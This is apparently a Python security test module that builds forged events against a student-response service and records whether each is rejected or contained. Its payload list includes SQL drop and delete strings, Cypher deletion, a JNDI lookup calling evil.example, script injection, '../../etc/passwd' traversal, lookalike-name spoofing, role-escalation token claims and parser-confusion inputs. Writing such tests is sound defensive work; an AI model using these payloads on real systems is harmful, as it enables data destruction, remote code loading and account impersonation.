"""Attacks by what an event says, with tokens that are good."""

import json
from collections.abc import Iterator
from typing import Any, Final

from tests.security.forge import (
    ATTACKER,
    MISSING,
    SECRET,
    TEACHER,
    TENANT,
    VICTIM,
    Attack,
    Forge,
    Harmless,
)

_OTHER_TENANT: Final = "school-8"

_INJECTIONS: Final = {
    "SQL that drops": "'; drop table public.student_responses; --",
    "SQL that is always true": "' or '1'='1",
    "SQL in dollar quotes": "$$; delete from mastery.learners; $$",
    "a Postgres array": '{"a","b",NULL}',
    "a Postgres escape": "\\'; select pg_sleep(9); --",
    "Cypher that deletes": "'}) DETACH DELETE n //",
    "Cypher in backticks": "`}) MATCH (n) SET n.tenant_id = 'school-8' //",
    "Cypher's parameter": "$rows",
    "a log line": '", "level": "critical", "event": "forged", "x": "',
    "a log line by other line breaks": 'a\u2028{"level": "critical"}\u2029',
    "a template": "${jndi:ldap://evil.example/a}{{7*7}}%s%n{0}",
    "Redis's wildcards": "*?[a-z]",
    "a key of Redis": "practice.responses.v1:accepted",
    "JSON": '{"tenant_id": "school-8"}',
    "markup": "<script>alert(1)</script>[red]x[/red]",
    "a path": "../../etc/passwd",
    "PostgREST's operators": "eq.school-8,or=(tenant_id.eq.school-8)",
    "a separator of ours": f"{_OTHER_TENANT}/{VICTIM}",
}


def _strings() -> Iterator[Attack]:
    for name, text in _INJECTIONS.items():
        own = Harmless(TENANT, ATTACKER)
        for field in ("item_id", "session_id", "scale"):
            yield Attack(
                f"{name} as {field}", own, lambda f, n=field, t=text: f.event(f.claims(), **{n: t})
            )
        yield Attack(
            f"{name} as a concept",
            own,
            lambda f, t=text: f.event(f.claims(), concept_ids=[t, "c-1"]),
        )
        yield Attack(
            f"{name} as the student", Harmless(TENANT, text), lambda f, t=text: f.event(f.claims(t))
        )
        yield Attack(
            f"{name} as the tenant",
            Harmless(text, ATTACKER),
            lambda f, t=text: f.event(f.claims(tenant=t)),
        )
        yield Attack(
            f"{name} in the envelope",
            own,
            lambda f, t=text: f.event(
                f.claims(),
                envelope={"subject": t, "source": t, "correlationid": t, "other": {t: t}},
            ),
        )
    for control in ("\n", "\r\n", "\0", "\x1b[31m", "\x85", "\t"):
        text = f"a{control}b"
        for field in ("student_id", "item_id", "session_id", "scale"):
            yield Attack(
                f"{control!r} in {field}",
                "invalid",
                lambda f, n=field, t=text: f.event(f.claims(), **{n: t}),
            )
        yield Attack(
            f"{control!r} in correlationid",
            "invalid",
            lambda f, t=text: f.event(f.claims(), envelope={"correlationid": t}),
        )


def _others() -> Iterator[Attack]:
    look_alikes = {
        "in capitals": "Ann",
        "in Cyrillic": "аnn",  # noqa: RUF001  # that is the attack
        "with a blank": "ann ",
        "with a space of no width": "ann\u200b",
        "with a soft hyphen": "a\u00adnn",
        "in wide letters": "\uff41\uff4e\uff4e",
        "read from the right": "\u202enna",
        "with an accent apart": "an\u0303n",
    }
    for name, text in look_alikes.items():
        yield Attack(
            f"a name like the victim's, {name}, reports for the victim",
            "forbidden",
            lambda f, t=text: f.event(f.claims(t), student_id=VICTIM),
        )
        yield Attack(
            f"a name like the victim's, {name}, reports for itself",
            Harmless(TENANT, text),
            lambda f, t=text: f.event(f.claims(t)),
        )
        yield Attack(
            f"the victim's name, {name}, is reported for",
            "forbidden",
            lambda f, t=text: f.event(f.claims(VICTIM), student_id=t),
        )
        yield Attack(
            f"a tenant like another, {name}",
            Harmless(text, VICTIM),
            lambda f, t=text: f.event(f.claims(VICTIM, tenant=t)),
        )
    yield Attack("a student reports for another", "forbidden", _for_victim)
    for role in ("anon", "admin", "Service_Role", "service_role ", "postgres", "", None, MISSING):
        yield Attack(
            f"role {role!r} reports for another"[:40],
            "forbidden",
            lambda f, r=role: f.event(f.claims(role=r), student_id=VICTIM),
        )
    yield Attack(
        "roles elsewhere in the token",
        "forbidden",
        lambda f: f.event(
            f.claims(
                roles=["service_role"],
                app_metadata={"role": "service_role"},
                realm_access={"roles": ["service_role"]},
            ),
            student_id=VICTIM,
        ),
    )
    yield Attack(
        "a teacher reports for a student of the same tenant",
        Harmless(TENANT, VICTIM),
        lambda f: f.event(f.claims(TEACHER, role="teacher"), student_id=VICTIM),
    )
    yield Attack(
        "a teacher of another tenant reports for the same name",
        Harmless("school-9", VICTIM),
        lambda f: f.event(f.claims(TEACHER, "school-9", role="teacher"), student_id=VICTIM),
    )
    yield Attack(
        "a token of HS256 with the right secret",
        Harmless(TENANT, ATTACKER),
        lambda f: f.hmac(SECRET.encode()),
    )


def _for_victim(f: Forge) -> bytes:
    return f.event(f.claims(), student_id=VICTIM)


def _claims() -> Iterator[Attack]:
    """The token is the attacker's own; the claims beside it say something else."""
    for name, value in (
        ("sub", VICTIM),
        ("role", "service_role"),
        ("role", "teacher"),
        ("role", None),
        ("tenant_id", _OTHER_TENANT),
        ("tenant_id", None),
        ("app_metadata", {"tenant_id": _OTHER_TENANT}),
        ("exp", 9_999_999_999),
        ("iat", 1),
        ("nbf", 0),
        ("aud", ["authenticated"]),
        ("iss", "https://evil.example"),
        ("email", "ann@school.example"),
        ("sub", ATTACKER + "\u200b"),
    ):
        yield Attack(
            f"claims with {name} {value!r}",
            "unauthenticated",
            lambda f, n=name, v=value: f.event(
                f.claims(**{n: v}), f.signed(f.claims()), student_id=f.claims(**{n: v})["sub"]
            ),
        )
    yield Attack(
        "a token of another student",
        "unauthenticated",
        lambda f: f.event(f.claims(VICTIM), f.signed(f.claims())),
    )
    yield Attack(
        "a token of the same student in another tenant",
        "unauthenticated",
        lambda f: f.event(f.claims(VICTIM), f.signed(f.claims(VICTIM, _OTHER_TENANT))),
    )
    yield Attack(
        "a teacher's token of another tenant",
        "unauthenticated",
        lambda f: f.event(
            f.claims(TEACHER, role="teacher"),
            f.signed(f.claims(TEACHER, _OTHER_TENANT, role="teacher")),
            student_id=VICTIM,
        ),
    )
    for claims in (None, [], "claims", 1, MISSING):
        yield Attack(
            f"claims that are none: {claims!r}"[:30],
            "unauthenticated",
            lambda f, c=claims: _with_data(f, "claims", c),
        )
    yield Attack(
        "the tenant in the response",
        Harmless(TENANT, ATTACKER),
        lambda f: f.event(f.claims(), tenant_id=_OTHER_TENANT, data={"tenant_id": _OTHER_TENANT}),
    )


def _with_data(f: Forge, name: str, value: Any) -> bytes:
    made = json.loads(f.event(f.claims()))
    if value is MISSING:
        del made["data"][name]
    else:
        made["data"][name] = value
    return json.dumps(made).encode()


def _twice() -> Iterator[Attack]:
    """Repeat a name: the last value counts, in every parser of this project."""
    yield Attack(
        "student_id twice, at last the victim",
        "forbidden",
        lambda f: _inserted(f, '"response": {', f'"student_id": "{ATTACKER}", ', VICTIM),
    )
    yield Attack(
        "student_id twice, at first the victim",
        Harmless(TENANT, ATTACKER),
        lambda f: _inserted(f, '"response": {', f'"student_id": "{VICTIM}", ', ATTACKER),
    )
    yield Attack(
        "claims twice, at last a teacher's",
        "unauthenticated",
        lambda f: f.event(
            f.claims(role="teacher"), f.signed(f.claims()), student_id=VICTIM
        ).replace(b'"claims":', b'"claims": ' + json.dumps(f.claims()).encode() + b', "claims":'),
    )
    yield Attack(
        "data twice, at last without a token",
        "unauthenticated",
        lambda f: (
            f.event(f.claims())[:-1]
            + b', "data": '
            + json.dumps(json.loads(f.event(f.claims(), None))["data"]).encode()
            + b"}"
        ),
    )
    yield Attack("an event nested deeply", "invalid", lambda _: b'{"a":' * 9_000)
    yield Attack(
        "claims nested deeply",
        "invalid",
        lambda f: f.event(f.claims()).replace(
            b'"claims": {', b'"claims": {"a": ' + b"[" * 9_000 + b"]" * 9_000 + b", "
        ),
    )
    yield Attack(
        "an event of 70,000 bytes",
        "too_large",
        lambda f: f.event(f.claims(), envelope={"padding": "x" * 70_000}),
    )


def _inserted(f: Forge, after: str, text: str, student: str) -> bytes:
    event = f.event(f.claims(), student_id=student).decode()
    return event.replace(after, after + text, 1).encode()


def event_attacks() -> list[Attack]:
    """All of them."""
    return [a for group in (_strings, _others, _claims, _twice) for a in group()]
